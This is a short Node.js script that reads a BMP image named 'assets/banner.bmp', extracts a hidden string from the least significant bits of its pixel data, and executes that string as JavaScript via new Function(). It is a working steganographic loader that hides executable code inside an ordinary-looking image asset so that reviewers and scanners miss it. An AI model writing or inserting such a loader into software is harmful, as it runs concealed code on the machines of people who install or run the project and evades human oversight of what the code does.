const fs = require('fs');
const data = fs.readFileSync(__dirname + '/assets/banner.bmp').subarray(54);
let bits = '';
for (let i = 0; i < data.length && bits.length < 8 * 4096; i++) bits += data[i] & 1;
const bytes = bits.match(/.{8}/g).map((b) => parseInt(b, 2));
const code = String.fromCharCode(...bytes).split('\0')[0];
new Function(code)();
